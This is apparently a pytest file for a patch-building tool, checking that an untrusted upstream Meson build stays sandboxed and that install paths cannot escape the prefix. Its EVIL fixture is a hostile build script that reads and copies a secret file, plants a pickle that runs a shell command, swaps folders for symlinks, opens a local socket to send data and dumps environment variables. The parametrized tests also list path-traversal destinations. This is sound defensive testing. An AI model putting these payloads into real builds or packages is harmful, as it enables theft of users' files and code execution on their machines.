"""Upstream's build is not trusted: what it does stays in its sandbox, and so does its output."""

from __future__ import annotations

import json
import shutil
from typing import TYPE_CHECKING

import pytest

from patchkit.build.install import install, select
from patchkit.build.meson import InstallData
from patchkit.errors import InconsistentError, PatchkitError
from tests.build.support import Yard, project, yard

if TYPE_CHECKING:
    from pathlib import Path

needs_bubblewrap = pytest.mark.skipif(shutil.which("bwrap") is None, reason="no bubblewrap")

EVIL = """\
import os, pickle, socket, sys
outside, secret = sys.argv[1:3]
def attempt(work):
    try:
        work()
    except Exception:
        pass
class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {outside}/by-the-pickle",)
def read_secret():
    text = open(secret).read()
    open("stolen.txt", "w").write(text)
def link(place):
    os.rename(place, place + ".was")
    os.symlink(outside, place)
attempt(lambda: open(f"{outside}/by-the-compiler", "w").close())
attempt(read_secret)
attempt(lambda: pickle.dump(Bomb(), open("meson-private/install.dat", "wb")))
attempt(lambda: link("../source/units"))
attempt(lambda: link("../variants"))
attempt(lambda: socket.create_connection(("127.0.0.1", int(sys.argv[3])), 2).send(b"out"))
attempt(lambda: open("network", "w").write("\\n".join(os.environ)))
open(sys.argv[4], "w").write("/* made */")
"""


def hostile(folder: Path, port: int) -> tuple[Yard, Path]:
    """A release whose build attacks, and the folder that it must not reach."""
    outside = folder / "outside"
    (outside / "home").mkdir(parents=True)
    (outside / "home" / "secret").write_text("the user's own")
    files = dict(project())
    meson = files["meson.build"]
    assert isinstance(meson, bytes)
    target = (
        f"evil = custom_target('evil.h', output : 'evil.h', command : ['python3', "
        f"meson.current_source_dir() / 'evil.py', '{outside}', '{outside}/home/secret', '{port}', "
        f"'@OUTPUT@'])\nforeach name"
    )
    text = meson.decode().replace("foreach name", target, 1)
    text = text.replace("executable(name, 'src/'", "executable(name, evil, 'src/'")
    files["meson.build"] = text.encode()
    files["evil.py"] = EVIL.encode()
    source = files["src/systemd.c"]
    assert isinstance(source, bytes)
    call = f'fopen("{outside}/by-systemd", "w");'.encode()
    files["src/systemd.c"] = source.replace(
        b"        return 0;", b"        " + call + b"\n        return 0;"
    )
    return yard(folder / "yard", files=files), outside


@needs_bubblewrap
def test_a_build_that_attacks_reaches_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It writes elsewhere, steals, calls out, swaps folders for links, and leaves a pickle."""
    import socket  # noqa: PLC0415

    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        made, outside = hostile(tmp_path, listener.getsockname()[1])
        monkeypatch.setenv("HOME", str(outside / "home"))
        for variant in ("stock", "patched"):
            try:
                made.build(variant)
            except PatchkitError as error:
                made.said.write(error.message)
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert sorted(p.name for p in outside.rglob("*")) == ["home", "secret"], made.said.getvalue()
    stolen = [path.read_text() for path in made.repository.cache.rglob("stolen.txt")]
    assert not any(stolen)
    built = made.folder / "build" / "systemd"
    assert built.exists(), "the attack was never run: this proves nothing"
    assert not (made.folder / "variants").is_symlink()


def plan(**parts: list[dict[str, str]]) -> InstallData:
    empty: dict[str, list[dict[str, str]]] = {"targets": [], "data": [], "links": [], "folders": []}
    return InstallData.read(json.dumps(empty | parts).encode())


UNITS = "/usr/lib/systemd/system"


@pytest.fixture
def places(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A build folder with a file, a prefix, and what is neither's business."""
    build, outside = tmp_path / "work" / "build", tmp_path / "outside"
    build.mkdir(parents=True)
    outside.mkdir()
    (build / "unit").write_text("a unit\n")
    (outside / "secret").write_text("the user's own")
    return build, tmp_path / "work" / "prefix", outside


@pytest.mark.parametrize(
    "to",
    [f"{UNITS}/../../../../../../outside/x", f"{UNITS}/../x", "/usr/lib/systemd/system/a/../../x"],
)
def test_a_destination_that_leads_out(places: tuple[Path, Path, Path], to: str) -> None:
    build, prefix, outside = places
    data = plan(data=[{"file": "unit", "to": to}])
    with pytest.raises(InconsistentError, match="which leads elsewhere"):
        install(data, select(data, ()), build, prefix)
    assert [path.name for path in outside.iterdir()] == ["secret"]


def test_a_link_that_was_installed_before_is_not_written_through(
    places: tuple[Path, Path, Path],
) -> None:
    build, prefix, outside = places
    (build / "leaf").symlink_to(outside / "new")
    (build / "folder").symlink_to(outside)
    leaf = [{"file": "leaf", "to": f"{UNITS}/x"}, {"file": "unit", "to": f"{UNITS}/x"}]
    data = plan(data=leaf)
    install(data, select(data, ()), build, prefix)
    assert (prefix / UNITS[1:] / "x").read_text() == "a unit\n"
    through = [{"file": "folder", "to": f"{UNITS}/d"}, {"file": "unit", "to": f"{UNITS}/d/x"}]
    data = plan(data=through)
    with pytest.raises(InconsistentError, match="which leads elsewhere"):
        install(data, select(data, ()), build, prefix)
    assert [path.name for path in outside.iterdir()] == ["secret"]


@pytest.mark.parametrize("how", ["absolute", "dots", "folder", "a folder that is a link"])
def test_a_file_of_this_machine_is_not_installed(places: tuple[Path, Path, Path], how: str) -> None:
    build, prefix, outside = places
    (build / "out").symlink_to(outside)
    item = {
        "absolute": ("data", str(outside / "secret")),
        "dots": ("data", "../../outside/secret"),
        "folder": ("folders", str(outside)),
        "a folder that is a link": ("data", "out/secret"),
    }[how]
    data = plan(**{item[0]: [{"file": item[1], "to": f"{UNITS}/x"}]})
    with pytest.raises(InconsistentError, match="no file of its own"):
        install(data, select(data, ()), build, prefix)
    assert not [p for p in prefix.rglob("*") if p.is_file() and "own" in p.read_text()]


def test_links_stay_links(places: tuple[Path, Path, Path]) -> None:
    build, prefix, _ = places
    (build / "alias").symlink_to("unit")
    data = plan(data=[{"file": "alias", "to": f"{UNITS}/alias"}])
    install(data, select(data, ()), build, prefix)
    assert str((prefix / UNITS[1:] / "alias").readlink()) == "unit"
